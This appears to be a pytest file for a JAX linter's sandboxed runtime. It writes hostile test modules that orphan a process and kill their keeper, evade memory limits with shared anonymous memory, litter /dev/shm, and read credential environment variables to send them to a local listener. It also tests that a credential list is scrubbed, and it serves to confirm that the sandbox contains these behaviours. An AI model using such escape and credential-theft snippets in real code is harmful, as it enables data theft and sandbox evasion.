"""What the checked code can reach and leave behind, tried with hostile modules in one run.

Each module does at import what a hostile pull request would: kill its own keeper after starting
a process in a new session, use memory the data limit does not count (shared anonymous memory),
leave a file in /dev/shm, read credentials from the environment and send them to a listener on
127.0.0.1. After the run, nothing it started is alive, no /dev/shm file is left, the memory was
counted, and neither the credential nor a connection got out. Fast tests cover the environment's
scrubbing and the orphan sweep on their own.
"""
from __future__ import annotations

import os
import socket
import subprocess
import sys
import textwrap
import threading
import uuid

import pytest

from jaxlint.engine.files import check_file
from jaxlint.engine.registry import known_codes
from jaxlint.frontends.config import load_settings
from jaxlint.runtime import RuntimeOptions, confirm
from jaxlint.runtime.sandbox import is_credential, scrubbed

FLAGGED = '''

@jax.jit
def relu(x):
    if x > 0:
        return x
    return -x
'''
MEMORY_LIMIT = 1024


def _module(body: str) -> str:
    return "import jax\n" + textwrap.dedent(body) + FLAGGED


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    try:
        with open(f"/proc/{pid}/stat", encoding="ascii") as handle:
            return handle.read().rsplit(")", 1)[-1].split()[0] != "Z"
    except OSError:
        return False


@pytest.mark.runtime
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="process trees are walked in /proc")
def test_hostile_modules_leave_nothing_running_nothing_in_dev_shm_and_reach_no_secret(tmp_path, monkeypatch):
    out = tmp_path / "out"
    out.mkdir()
    tree = tmp_path / "tree"
    tree.mkdir()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                connection, _ = listener.accept()
            except OSError:
                continue
            received.append(connection.recv(100) or b"(connected)")
            connection.close()

    threading.Thread(target=accept, daemon=True).start()
    shm_name = f"/dev/shm/jaxlint-test-{uuid.uuid4().hex}"
    monkeypatch.setenv("CHECKED_CODE_API_TOKEN", "hunter2")
    monkeypatch.setenv("CHECKED_CODE_PASSED_SECRET", "kept")
    (tree / "pyproject.toml").write_text(
        f"[tool.jaxlint.runtime]\ntimeout = 30\nmemory-limit = {MEMORY_LIMIT}\n"
        'pass-env = ["CHECKED_CODE_PASSED_*"]\n', encoding="utf-8")
    modules = {
        # A process in its own session, then the keeper killed: the grandchild must still die.
        "kills_keeper": f"""
            import os, signal, subprocess, sys
            child = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)"], start_new_session=True)
            open({str(out / "grandchild")!r}, "w").write(str(child.pid))
            os.kill(os.getppid(), signal.SIGKILL)
        """,
        # Shared anonymous memory, which RLIMIT_DATA does not count.
        "shares_memory": f"""
            import mmap, time
            block = mmap.mmap(-1, {(MEMORY_LIMIT + 512) * 2 ** 20})
            open({str(out / "shared")!r}, "w").write("allocating")
            for offset in range(0, len(block), 4096):
                block[offset] = 1
            time.sleep(5)
        """,
        "leaves_shm": f"""
            with open({shm_name!r}, "wb") as handle:
                handle.write(b"x" * 2 ** 20)
        """,
        "steals": f"""
            import os, socket
            seen = os.environ.get("CHECKED_CODE_API_TOKEN", "absent") + "," + os.environ.get("CHECKED_CODE_PASSED_SECRET", "absent")
            try:
                socket.create_connection(("127.0.0.1", {listener.getsockname()[1]}), timeout=2).sendall(seen.encode())
                sent = "sent"
            except OSError as exc:
                sent = type(exc).__name__
            open({str(out / "stolen")!r}, "w").write(seen + ";" + sent)
        """,
    }
    for name, body in modules.items():
        (tree / f"{name}.py").write_text(_module(body), encoding="utf-8")
    (tree / "good.py").write_text("import jax\n" + FLAGGED, encoding="utf-8")
    settings = load_settings(tree, known_codes())
    findings = [f for path in sorted(tree.glob("*.py")) for f in check_file(str(path), settings).findings]
    assert len(findings) == len(modules) + 1
    notes: list[str] = []
    try:
        checked = confirm(findings, settings, RuntimeOptions(jobs=2), notes=notes)
    finally:
        stop.set()
    verdicts = {os.path.basename(f.path)[:-3]: f.runtime for f in checked}
    assert verdicts["good"]["verdict"] == "confirmed", verdicts["good"]

    grandchild = int((out / "grandchild").read_text())
    assert not _alive(grandchild), "a process started by the checked code outlived the run"
    assert verdicts["kills_keeper"]["verdict"] == "inconclusive", verdicts["kills_keeper"]

    assert (out / "shared").exists(), ("the shared memory was never touched", verdicts["shares_memory"])
    shared = verdicts["shares_memory"]
    assert shared["verdict"] == "inconclusive" and f"memory limit ({MEMORY_LIMIT} MiB) reached" in shared["evidence"]
    assert "shared memory included" in shared["evidence"], shared

    assert verdicts["leaves_shm"]["verdict"] == "confirmed", verdicts["leaves_shm"]
    assert not os.path.exists(shm_name), "a /dev/shm file of the run was left behind"

    seen, sent = (out / "stolen").read_text().split(";")
    assert seen == "absent,kept", "a credential reached the checked code (or pass-env did not keep one)"
    if any("network" in note for note in notes):  # the kernel refused a network namespace: said so
        assert any("could reach the network" in note for note in notes), notes
    else:
        assert sent != "sent" and received == [], (sent, received)


def test_credentials_are_left_out_and_jax_settings_kept():
    environment = {
        "GITHUB_TOKEN": "t", "AWS_SECRET_ACCESS_KEY": "s", "AWS_REGION": "eu", "OPENAI_API_KEY": "k",
        "DB_PASSWORD": "p", "GOOGLE_APPLICATION_CREDENTIALS": "/c.json", "MY_SECRET": "s", "SSH_AUTH_SOCK": "/s",
        "HF_TOKEN": "h", "NPM_TOKEN": "n", "PYPI_API_TOKEN": "p", "SIGNING_KEY": "k",
        "JAX_PLATFORMS": "cpu", "XLA_FLAGS": "--x", "TF_CPP_MIN_LOG_LEVEL": "2", "CUDA_VISIBLE_DEVICES": "0",
        "PATH": "/bin", "HOME": "/h", "PYTHONPATH": "/p", "KEYBOARD": "us", "MONKEY": "1", "TOKENIZERS_PARALLELISM": "false",
        "GIT_AUTHOR_NAME": "a", "OAUTH_CLIENT_SECRET": "o",
    }
    kept, dropped = scrubbed(environment, ("HF_*",))
    assert dropped == sorted(["GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "AWS_REGION", "OPENAI_API_KEY", "DB_PASSWORD",
                              "GOOGLE_APPLICATION_CREDENTIALS", "MY_SECRET", "SSH_AUTH_SOCK", "NPM_TOKEN",
                              "PYPI_API_TOKEN", "SIGNING_KEY", "OAUTH_CLIENT_SECRET"])
    assert kept["HF_TOKEN"] == "h"  # passed through by name pattern
    for name in ("JAX_PLATFORMS", "XLA_FLAGS", "TF_CPP_MIN_LOG_LEVEL", "CUDA_VISIBLE_DEVICES", "PATH", "KEYBOARD",
                 "MONKEY", "TOKENIZERS_PARALLELISM", "GIT_AUTHOR_NAME"):
        assert name in kept and not is_credential(name), name


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="child subreapers are Linux only")
def test_a_process_orphaned_below_a_subreaper_is_ended_by_the_sweep():
    """The sweep's own contract, without JAX: a process in a new session whose parent died is
    adopted by this (subreaper) process and ended; children it had before are left alone."""
    from jaxlint.runtime.processes import adopted, end_adopted, set_subreaper

    before = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        assert set_subreaper(True)
        known = {pid for pid, _ in adopted(set())}
        assert before.pid in known
        parent = subprocess.run(
            [sys.executable, "-c", "import subprocess, sys; p = subprocess.Popen([sys.executable, '-c', "
             "'import time; time.sleep(60)'], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL); print(p.pid)"],
            capture_output=True, text=True, check=True)
        orphan = int(parent.stdout)
        assert _alive(orphan) and orphan in {pid for pid, _ in adopted(known)}
        assert end_adopted(known) == 1
        assert not _alive(orphan)
        assert before.poll() is None  # not the run's: untouched
    finally:
        set_subreaper(False)
        before.kill()
        before.wait()
